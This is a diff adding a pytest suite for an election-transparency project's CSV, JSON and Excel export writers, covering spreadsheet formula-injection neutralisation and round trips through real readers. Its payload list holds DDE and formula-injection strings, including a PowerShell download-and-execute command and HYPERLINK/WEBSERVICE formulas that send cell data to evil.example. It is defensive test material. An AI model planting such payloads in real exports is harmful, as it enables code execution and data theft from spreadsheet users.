@@ -1,0 +1,207 @@
+"""The pure row builder and writers: formula injection, round trips through real readers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date, datetime
+
+import pytest
+from openpyxl import load_workbook
+
+from transparency.exports.rows import (
+    DisclosureCell,
+    ExportRecord,
+    columns,
+    json_record,
+    neutralise,
+    safe_cell,
+    tabular_row,
+)
+from transparency.exports.writers import BOM, csv_chunks, json_chunks, write_xlsx
+
+# Each would be evaluated by a spreadsheet program if it reached a cell unchanged.
+FORMULA_PAYLOADS = [
+    "=1+1",
+    "=SUM(A1:A9)",
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "=cmd|' /C calc'!A0",
+    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "+1+1",
+    "+cmd|' /C notepad'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\0=1+1",
+    "\tdata",
+    "\rdata",
+    "\0",
+    " =1+1",
+    "   +1",
+    "  -1",
+    "    @A1",
+    "\u00a0=1+1",
+    "\u200f=1+1",
+    "\u202e=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠A1",
+    " ＝cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+    "-@SUM(1)",
+    "−1+1",
+]
+INERT = ["Siti Rahayu", "1+1", "a=b", "PKB", "", "Ir. H. Bambang, S.H.", "😀 =1", "100%"]
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+def test_formula_payloads_are_made_inert_and_keep_their_text(payload):
+    assert len(FORMULA_PAYLOADS) >= 30
+    inert = neutralise(payload)
+    assert inert.startswith("'")
+    assert inert[1:] == payload
+
+
+@pytest.mark.parametrize("text", INERT)
+def test_ordinary_text_is_left_alone(text):
+    assert neutralise(text) == text
+
+
+@pytest.mark.parametrize("number", [-5, -0.5, 0, 42, 3.25, True, None])
+def test_numbers_stay_numbers(number):
+    assert safe_cell(number) is number
+
+
+def record(**fields) -> ExportRecord:
+    values = {
+        "candidacy_id": 7,
+        "profile_url": "https://jejak.example/candidates/7",
+        "name": "Siti Rahayu",
+        "gender": "P",
+        "election": "pemilu-2024",
+        "office": "DPR",
+        "province": "33",
+        "district_code": "3304",
+        "district_name": "JAWA TENGAH IV",
+        "party": "pkb",
+        "ballot_number": 3,
+        "disclosure_score": 40,
+        "flagged": True,
+        "ruleset_version": "2024.1",
+        "flagged_since": datetime(2023, 11, 14, 8, 0),
+        "last_change": datetime(2023, 11, 15, 9, 30),
+        "flags": (
+            {
+                "rule_id": "R-CV",
+                "requirement": "cv",
+                "status": "refused",
+                "reason_id": "Tidak bersedia membuka data diri (per 14 November 2023)",
+                "reason_en": "Refused to publish the CV (as of 14 November 2023)",
+                "source_url": "https://kpu.example/dct",
+            },
+        ),
+        "disclosure": {
+            "cv": DisclosureCell("cv", "refused", date(2023, 11, 14), "https://kpu.example/dct")
+        },
+        "sources": ("https://kpu.example/dct",),
+    }
+    values.update(fields)
+    return ExportRecord(**values)
+
+
+def test_row_follows_the_header_with_reasons_status_and_dates():
+    header = columns(["cv", "lhkpn"])
+    row = dict(zip(header, tabular_row(record(), ["cv", "lhkpn"]), strict=True))
+    assert row["flag_rule_ids"] == "R-CV"
+    assert row["flag_reasons_id"].startswith("Tidak bersedia membuka data diri")
+    assert row["status_cv"] == "refused"
+    assert row["checked_at_cv"] == "2023-11-14"
+    assert row["status_lhkpn"] is None
+    assert row["disclosure_score"] == 40
+    assert row["last_change"] == "2023-11-15T09:30:00Z"
+
+
+def test_hostile_name_is_neutralised_in_the_row_but_raw_in_json():
+    hostile = record(name='=HYPERLINK("http://x")', party="-pkb")
+    row = tabular_row(hostile, ["cv"])
+    assert '\'=HYPERLINK("http://x")' in row
+    assert "'-pkb" in row
+    assert json_record(hostile)["name"] == '=HYPERLINK("http://x")'
+
+
+TRICKY = [
+    'Tanda "kutip" dan, koma',
+    "baris satu\nbaris dua\r\nbaris tiga",
+    "\u200fتجربة\u200e kanan-ke-kiri",
+    "emoji 😀🇮🇩",
+    "nul\0di tengah",
+    *FORMULA_PAYLOADS,
+]
+
+
+def test_csv_round_trip_keeps_text_quotes_and_newlines():
+    header = ["id", "text", "score"]
+    rows = [[index, text, -index] for index, text in enumerate(TRICKY)]
+    body = b"".join(csv_chunks(header, ([safe_cell(c) for c in row] for row in rows)))
+    assert body.startswith(BOM.encode("utf-8"))
+    assert b"\r\n" in body
+    read = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert read[0] == header
+    for (index, text, score), got in zip(rows, read[1:], strict=True):
+        assert got[0] == str(index)
+        assert got[1] == neutralise(text)
+        assert got[2] == str(score)  # a negative number is written as a number, unquoted
+    assert f"\r\n3,{neutralise(TRICKY[3])},-3\r\n".encode() in body
+
+
+def test_json_stream_is_one_valid_document_with_metadata_first():
+    rows = [json_record(record(candidacy_id=i, name=TRICKY[i % len(TRICKY)])) for i in range(7)]
+    chunks = list(json_chunks({"row_count": 7}, rows))
+    document = json.loads(b"".join(chunks))
+    assert list(document) == ["metadata", "rows", "rows_sha256"]
+    assert document["metadata"]["row_count"] == 7
+    assert [row["name"] for row in document["rows"]] == [TRICKY[i] for i in range(7)]
+
+
+def test_json_stream_of_no_rows_is_valid():
+    document = json.loads(b"".join(json_chunks({"row_count": 0}, [])))
+    assert document["rows"] == []
+
+
+def test_excel_round_trip_with_metadata_sheet(tmp_path):
+    header = ["id", "text", "score"]
+    rows = [[index, safe_cell(text), -index] for index, text in enumerate(TRICKY)]
+    target = tmp_path / "out.xlsx"
+    write_xlsx(str(target), header, rows, {"row_count": len(rows), "filters": {"party": "pkb"}})
+    workbook = load_workbook(target, read_only=True)
+    assert workbook.sheetnames == ["candidates", "metadata"]
+    values = list(workbook["candidates"].values)
+    assert list(values[0]) == header
+    for (index, text, score), got in zip(rows, values[1:], strict=True):
+        assert got[0] == index
+        assert got[2] == score and isinstance(got[2], int)
+        # XML cannot hold NUL, which shows as U+FFFD; line breaks survive (lxml escapes CR)
+        expected = text.replace("\0", "\ufffd")
+        assert got[1] == expected
+    metadata = dict(workbook["metadata"].values)
+    assert metadata["row_count"] == len(rows)
+    assert json.loads(metadata["filters"]) == {"party": "pkb"}
+    workbook.close()
+
+
+def test_excel_never_stores_a_formula(tmp_path):
+    target = tmp_path / "out.xlsx"
+    rows = [[safe_cell(text)] for text in FORMULA_PAYLOADS]
+    write_xlsx(str(target), ["text"], rows, {})
+    workbook = load_workbook(target)
+    cells = [cell for row in workbook["candidates"].iter_rows(min_row=2) for cell in row]
+    assert cells and all(cell.data_type == "s" for cell in cells)
